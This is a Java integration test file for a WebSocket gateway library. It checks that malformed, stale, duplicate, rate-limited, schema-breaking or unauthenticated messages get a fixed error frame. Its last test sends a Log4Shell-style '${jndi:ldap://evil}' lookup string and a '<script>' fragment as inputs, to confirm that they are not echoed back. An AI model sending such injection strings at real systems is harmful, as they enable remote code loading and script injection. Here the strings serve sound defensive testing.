package dev.portcullis.testkit.e2e;

import static dev.portcullis.testkit.e2e.Talk.error;
import static dev.portcullis.testkit.e2e.Talk.expectError;
import static dev.portcullis.testkit.e2e.Talk.message;
import static dev.portcullis.testkit.e2e.Talk.next;
import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.core.config.RateSpec;
import dev.portcullis.core.inject.PortcullisModule;
import dev.portcullis.testkit.PortcullisServer;
import dev.portcullis.testkit.RawConnection;
import dev.portcullis.testkit.RawHandshake;
import jakarta.validation.constraints.Max;
import jakarta.validation.constraints.Min;
import jakarta.validation.constraints.NotBlank;
import jakarta.validation.constraints.Size;
import java.time.Duration;
import java.time.Instant;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * CONTRACT §3, every error code end to end: each refusal is answered with exactly
 * {@code {"type":"error","code":..,"ref":..,"message":"An error occurred"}} (the message's id as
 * {@code ref} once its envelope was read, else {@code null}), the message never reaches the application,
 * and the socket stays open. The real built-in policies judge; the application echoes.
 */
class MessageRefusalIT {

  static final String SECRET = "message-refusal-it-secret-long-enough-for!";

  /** The payload registered for {@code plugin} messages. */
  record PluginSettings(@NotBlank @Size(max = 16) String name, @Min(0) @Max(10) int level) {}

  @RegisterExtension
  static final PortcullisServer server = PortcullisServer.with(c -> c.jwtSecret(SECRET)
          .messageRateOverrides(Map.of("ai_suggestion", new RateSpec(0.01, 1))))
      .module(binder -> PortcullisModule.payloadSchemas(binder).addBinding("plugin").toInstance(PluginSettings.class));

  @RegisterExtension
  static final PortcullisServer deferred = PortcullisServer.with(c -> c.jwtSecret(SECRET)
      .authTimeout(Duration.ofSeconds(5)));

  @RegisterExtension
  static final PortcullisServer slow = PortcullisServer.with(c -> c.jwtSecret(SECRET).maxMessagesPerSecond(1)
      .messageBurst(3));

  @Test
  void invalidFormatForWhatIsNotAnEnvelopeWithRefNull() {
    try (RawConnection ws = Talk.connect(server, Peers.next(), "ada")) {
      for (String bad : new String[] {"not json", "[1,2,3]", "\"a string\"", "{\"id\":{},\"type\":\"track\",\"timestamp\":1}",
          "{\"id\":\"x\",\"type\":\"track\",\"timestamp\":\"yesterday\"}", "{\"id\":\"\",\"type\":\"track\",\"timestamp\":1}"}) {
        ws.sendText(bad);
        expectError(ws, "invalid_format", null);
      }
      assertEchoed(ws, message("after", "track", null));
    }
  }

  @Test
  void missingFieldForAnEnvelopeWithoutIdTypeOrTimestamp() {
    try (RawConnection ws = Talk.connect(server, Peers.next(), "bo")) {
      ws.sendText("{\"id\":\"m-1\",\"type\":\"track\"}");
      expectError(ws, "missing_field", null);
      ws.sendText("{\"type\":\"track\",\"timestamp\":1764280000}");
      expectError(ws, "missing_field", null);
      assertEchoed(ws, message("after", "track", null));
    }
  }

  @Test
  void typeNotAllowedForATypeOffTheAllowListWithItsId() {
    try (RawConnection ws = Talk.connect(server, Peers.next(), "cy")) {
      ws.sendText(message("t-1", "admin_drop_everything", null));
      expectError(ws, "type_not_allowed", "t-1");
      assertEchoed(ws, message("after", "track", null));
    }
  }

  @Test
  void staleTimestampForATimestampOutsideTheReplayWindowEitherWay() {
    try (RawConnection ws = Talk.connect(server, Peers.next(), "di")) {
      long now = Instant.now().getEpochSecond();
      ws.sendText(message("old", "track", Long.toString(now - 301), null));
      expectError(ws, "stale_timestamp", "old");
      ws.sendText(message("ahead", "track", Long.toString((now + 301) * 1000), null)); // in milliseconds
      expectError(ws, "stale_timestamp", "ahead");
    }
  }

  @Test
  void acceptsTimestampsInSecondsWithAFractionAndInMilliseconds() {
    try (RawConnection ws = Talk.connect(server, Peers.next(), "ed")) {
      Instant now = Instant.now();
      assertEchoed(ws, message("sec", "track", now.getEpochSecond() + ".125", null));
      assertEchoed(ws, message("ms", "track", Long.toString(now.toEpochMilli()), null));
    }
  }

  @Test
  void duplicateIdForAnIdSeenBeforeEvenOnAnotherSocketOfTheSameSubject() {
    String peer = Peers.next();
    try (RawConnection first = Talk.connect(server, peer, "flo"); RawConnection second = Talk.connect(server, peer, "flo")) {
      String original = message("once", "track", null);
      assertEchoed(first, original);
      first.sendText(original);
      expectError(first, "duplicate_id", "once");
      second.sendText(message("once", "track", null));
      expectError(second, "duplicate_id", "once");
    }
  }

  @Test
  void rateLimitedPastTheConnectionsBurstBeforeTheEnvelopeIsRead() {
    try (RawConnection ws = Talk.connect(slow, Peers.next(), "gil")) {
      for (int i = 0; i < 3; i++) {
        assertEchoed(ws, message("b-" + i, "track", null));
      }
      ws.sendText(message("b-3", "track", null));
      expectError(ws, "rate_limited", null); // the bucket runs first, before any parsing
    }
  }

  @Test
  void rateLimitedPastATypesOwnBucketWithItsId() {
    try (RawConnection ws = Talk.connect(server, Peers.next(), "hal")) {
      assertEchoed(ws, message("ai-1", "ai_suggestion", null));
      ws.sendText(message("ai-2", "ai_suggestion", null));
      expectError(ws, "rate_limited", "ai-2");
      assertEchoed(ws, message("other", "track", null)); // other types keep the connection's pace
    }
  }

  @Test
  void payloadInvalidForAPayloadThatBreaksItsRegisteredSchema() {
    try (RawConnection ws = Talk.connect(server, Peers.next(), "ida")) {
      ws.sendText(message("p-1", "plugin", "{\"name\":\"reverb\",\"level\":11}"));
      expectError(ws, "payload_invalid", "p-1");
      ws.sendText(message("p-2", "plugin", "{\"name\":\"reverb\",\"level\":3,\"admin\":true}"));
      expectError(ws, "payload_invalid", "p-2");
      ws.sendText(message("p-3", "plugin", null));
      expectError(ws, "payload_invalid", "p-3");
      assertEchoed(ws, message("p-4", "plugin", "{\"name\":\"reverb\",\"level\":3}"));
    }
  }

  @Test
  void binaryNotAllowedForABinaryMessageWhileBinaryIsOff() {
    try (RawConnection ws = Talk.connect(server, Peers.next(), "jo")) {
      ws.sendFrame(true, RawConnection.BINARY, new byte[] {1, 2, 3});
      expectError(ws, "binary_not_allowed", null);
      assertEchoed(ws, message("after", "track", null));
    }
  }

  @Test
  void unauthenticatedForAnythingButAuthBeforeTheSocketHasAuthenticated() {
    try (RawConnection ws = Wire.upgraded(RawHandshake.to(deferred.uri()).from(Peers.next()))) {
      ws.sendText(message("u-1", "track", null));
      expectError(ws, "unauthenticated", "u-1");
      ws.sendText(message("u-2", "heartbeat", null));
      expectError(ws, "unauthenticated", "u-2");
      ws.sendText("{\"type\":\"auth\",\"token\":\"" + deferred.minter().subject("kai").mint() + "\"}");
      assertThat(next(ws)).isEqualTo("{\"type\":\"auth_ok\"}");
      assertEchoed(ws, message("u-3", "track", null));
    }
  }

  @Test
  void theErrorFrameNeverCarriesWhatTheClientSentBeyondTheId() {
    try (RawConnection ws = Talk.connect(server, Peers.next(), "lou")) {
      ws.sendText(message("x\\\"<script>", "${jndi:ldap://evil}", null));
      assertThat(next(ws)).isEqualTo(error("type_not_allowed", "x\\\"<script>")).doesNotContain("jndi");
    }
  }

  private static void assertEchoed(RawConnection ws, String text) {
    ws.sendText(text);
    assertThat(next(ws)).isEqualTo(text);
  }
}
